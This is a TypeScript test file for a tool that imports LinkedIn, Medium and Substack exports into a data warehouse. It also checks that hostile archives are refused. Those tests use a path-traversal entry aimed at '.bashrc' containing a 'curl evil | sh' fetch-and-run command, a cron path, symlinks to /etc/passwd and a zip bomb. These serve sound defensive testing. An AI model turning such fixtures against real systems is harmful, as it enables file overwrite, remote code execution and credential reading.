import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ArchiveRefusedError } from '../../lambdas/collection/exports/archive.js';
import { importExport } from '../../lambdas/collection/exports/import.js';
import {
  linkedinExportEntries,
  mediumExportEntries,
  substackExportEntries,
} from '../support/platform-exports.js';
import { allWarehouseKinds, type WarehouseFixture } from '../support/warehouses.js';
import { zipArchive, type ZipEntry } from '../support/zip-archives.js';

const author = 'Paul Iusztin';

describe.each(allWarehouseKinds())('platform exports imported into the warehouse: $name', (kind) => {
  let fixture: WarehouseFixture;
  beforeEach(async () => {
    if (kind.available) fixture = await kind.create();
  });
  afterEach(async () => {
    if (kind.available) await fixture.dispose();
  });

  it.runIf(kind.available)(
    'LinkedIn: posts from Shares.csv, the published article; reposts, empty rows and drafts counted',
    async () => {
      const report = await importExport(fixture.warehouse, zipArchive(linkedinExportEntries()), { author });
      expect(report).toMatchObject({
        platform: 'linkedin',
        found: 4,
        inserted: 4,
        alreadyThere: 0,
        skipped: { 'repost without your own text': 1, empty: 1, draft: 1 },
        problems: [],
      });
      const posts = await fixture.warehouse.findDocumentsByAuthor('posts', report.author.id);
      expect(posts.map((post) => post.content.text)).toEqual([
        'Retrieval beats memorisation.\r\n\r\nGround your LLM in your own notes, and say "I don\'t know" when they are silent.',
        'Three lessons from deploying an LLM twin on serverless AWS, with numbers.',
        'A post without a link of its own: the export does not always give one.',
      ]);
      expect(posts[0]).toMatchObject({
        platform: 'linkedin',
        link: 'https://linkedin.com/feed/update/urn%3Ali%3Aactivity%3A7001',
        image: 'https://media.licdn.com/image/7001.jpg',
        publishedAt: '2024-05-04T10:22:33.000Z',
      });
      expect(posts[2]).not.toHaveProperty('link');
      const [article] = await fixture.warehouse.findDocumentsByAuthor('articles', report.author.id);
      expect(article).toMatchObject({
        platform: 'linkedin',
        link: 'https://linkedin.com/pulse/serverless-llm-twins-paul-iusztin',
        publishedAt: '2024-04-02T10:15:00.000Z',
        content: { Title: 'Serverless LLM twins' },
      });
      expect(article?.content.Content).toMatch(/^Serverless twins, paragraph 1/u);

      const again = await importExport(fixture.warehouse, zipArchive(linkedinExportEntries()), { author });
      expect(again).toMatchObject({ found: 4, inserted: 0, alreadyThere: 4 });
    },
  );

  it.runIf(kind.available)(
    'Medium: the published stories with their canonical links; the draft counted',
    async () => {
      const report = await importExport(fixture.warehouse, zipArchive(mediumExportEntries()), { author });
      expect(report).toMatchObject({
        platform: 'medium',
        found: 2,
        inserted: 2,
        skipped: { draft: 1 },
        problems: [],
      });
      const stories = await fixture.warehouse.findDocumentsByAuthor('articles', report.author.id);
      expect(stories.map((story) => story.link).sort()).toEqual([
        'https://medium.com/@pauliusztin/an-end-to-end-framework-1a2b3c4d5e6f',
        'https://medium.com/@pauliusztin/rag-evaluation-6f5e4d3c2b1a',
      ]);
      expect(stories[0]).toMatchObject({
        platform: 'medium',
        publishedAt: '2024-03-05T10:12:00.000Z',
        content: { Title: 'An End-to-End Framework', Subtitle: 'Why an end-to-end framework matters' },
      });
      expect(stories[0]?.content.Content).toMatch(/^An End-to-End Framework, paragraph 1/u);
      expect(
        (await importExport(fixture.warehouse, zipArchive(mediumExportEntries()), { author })).inserted,
      ).toBe(0);
    },
  );

  it.runIf(kind.available)(
    'Substack: published posts linked under --site; the draft and the thread counted',
    async () => {
      const options = { author, site: 'https://decodingml.substack.com/' };
      const report = await importExport(fixture.warehouse, zipArchive(substackExportEntries()), options);
      expect(report).toMatchObject({
        platform: 'substack',
        found: 2,
        inserted: 2,
        skipped: { draft: 1, comment: 1 },
        problems: [],
      });
      const posts = await fixture.warehouse.findDocumentsByAuthor('articles', report.author.id);
      expect(
        posts.find((post) => post.link === 'https://decodingml.substack.com/p/the-new-king-of-iac'),
      ).toMatchObject({
        platform: 'substack',
        publishedAt: '2024-02-01T08:00:00.000Z',
        content: { Title: 'The new king of IaC', Subtitle: 'Why CDK, and why now' },
      });
      await expect(
        importExport(fixture.warehouse, zipArchive(substackExportEntries()), { author }),
      ).rejects.toThrow(/add --site https:\/\/<name>\.substack\.com/u);
      expect(
        (await importExport(fixture.warehouse, zipArchive(substackExportEntries()), options)).alreadyThere,
      ).toBe(2);
    },
  );

  it.runIf(kind.available)(
    'a malformed CSV row is reported by its line; the valid rows still import',
    async () => {
      const entries = linkedinExportEntries();
      const shares = entries.find((entry) => entry.name === 'Shares.csv');
      if (shares) {
        shares.data = [
          'Date,ShareLink,ShareCommentary,SharedUrl,MediaUrl,Visibility',
          '2024-06-01 10:00:00,,A fine post,,,MEMBER_NETWORK',
          '2024-06-02 10:00:00,,A post with a "stray" quote,,,MEMBER_NETWORK',
          '2024-06-03 10:00:00,,Too few fields',
          '2024-06-04 10:00:00,,Another fine post,,,MEMBER_NETWORK',
        ].join('\n');
      }
      const report = await importExport(fixture.warehouse, zipArchive(entries), { author });
      expect(report.problems).toEqual([
        { file: 'Shares.csv', line: 3, reason: 'a quote inside an unquoted field' },
        { file: 'Shares.csv', line: 4, reason: '3 fields where the header has 6' },
      ]);
      expect(report).toMatchObject({ found: 3, inserted: 3 }); // two posts and the article
    },
  );
});

describe.each(allWarehouseKinds())('hostile exports are refused and write nothing: $name', (kind) => {
  let fixture: WarehouseFixture;
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'twin-hostile-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });
  beforeEach(async () => {
    if (kind.available) fixture = await kind.create();
  });
  afterEach(async () => {
    if (kind.available) await fixture.dispose();
  });

  const refusedWithNothingWritten = async (source: string | Buffer, message: RegExp) => {
    const error = await importExport(fixture.warehouse, source, { author }).catch(
      (caught: unknown) => caught,
    );
    expect(error).toBeInstanceOf(ArchiveRefusedError);
    expect((error as Error).message).toMatch(message);
    const stats = await fixture.warehouse.stats();
    expect(stats.users).toBe(0);
    expect(stats.categories.posts.total + stats.categories.articles.total).toBe(0);
  };
  const withEntry = (entry: ZipEntry) => zipArchive([...mediumExportEntries(), entry]);

  it.runIf(kind.available)('a name that climbs out of the archive', async () => {
    await refusedWithNothingWritten(
      withEntry({ name: '../../.bashrc', data: 'curl evil | sh' }),
      /malformed or unsafe.*\.\./u,
    );
    await refusedWithNothingWritten(
      withEntry({ name: '/etc/cron.d/evil', data: 'x' }),
      /malformed or unsafe.*absolute/u,
    );
  });

  it.runIf(kind.available)('a symbolic link, in a zip or in a folder', async () => {
    await refusedWithNothingWritten(
      withEntry({ name: 'medium-export/posts/link.html', data: '/etc/passwd', mode: 0o120777, stored: true }),
      /symbolic link \(medium-export\/posts\/link\.html\)/u,
    );
    const folder = join(dir, `folder-${kind.name.length}`);
    for (const entry of mediumExportEntries()) {
      await mkdir(dirname(join(folder, entry.name)), { recursive: true });
      await writeFile(join(folder, entry.name), entry.data);
    }
    await symlink('/etc/passwd', join(folder, 'medium-export/posts/2024-04-01_Secrets-0f0f0f0f0f0f.html'));
    await refusedWithNothingWritten(folder, /symbolic link \(medium-export\/posts\/2024-04-01_Secrets/u);
  });

  it.runIf(kind.available)('a zip bomb, by its compression ratio', async () => {
    await refusedWithNothingWritten(
      withEntry({ name: 'medium-export/posts/bomb.html', data: Buffer.alloc(20 * 1024 * 1024, 0x20) }),
      /unpack \d+ times its packed size .* zip bomb/u,
    );
  });

  it.runIf(kind.available)('more entries than the limit, and an entry over the size limit', async () => {
    const limits = {
      maxArchiveBytes: 1e9,
      maxEntries: 3,
      maxEntryBytes: 1e6,
      maxTotalBytes: 1e9,
      maxRatio: 100,
    };
    const error = await importExport(fixture.warehouse, zipArchive(mediumExportEntries()), {
      author,
      limits,
    }).catch((caught: unknown) => caught);
    expect((error as Error).message).toMatch(/holds 5 entries, over the 3 limit/u);
    await refusedWithNothingWritten(
      withEntry({ name: 'medium-export/posts/huge.html', data: 'x'.repeat(40 * 1024 * 1024) }),
      /unpacks to 40\.0 MiB, over the 32\.0 MiB limit/u,
    );
  });

  it.runIf(kind.available)('a CSV in the wrong encoding; a file that is not a zip', async () => {
    const latin1 = Buffer.from(
      'Date,ShareLink,ShareCommentary,SharedUrl,MediaUrl,Visibility\n2024-01-01,,caf\xe9,,,\n',
      'latin1',
    );
    await refusedWithNothingWritten(
      zipArchive([{ name: 'Shares.csv', data: latin1 }]),
      /Shares\.csv is not UTF-8 text/u,
    );
    await refusedWithNothingWritten(
      Buffer.from('PK\u0003\u0004 not really a zip'),
      /not a readable zip archive/u,
    );
  });
});
